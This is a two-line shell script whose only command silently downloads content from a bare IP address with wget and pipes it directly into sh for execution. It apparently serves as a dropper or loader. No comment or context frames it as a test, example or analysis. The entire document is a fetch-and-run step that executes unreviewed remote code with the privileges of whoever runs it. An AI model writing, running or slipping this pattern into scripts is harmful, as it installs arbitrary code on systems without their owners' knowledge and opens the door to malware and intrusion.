#!/bin/sh
wget -q -O- http://203.0.113.7/x | sh
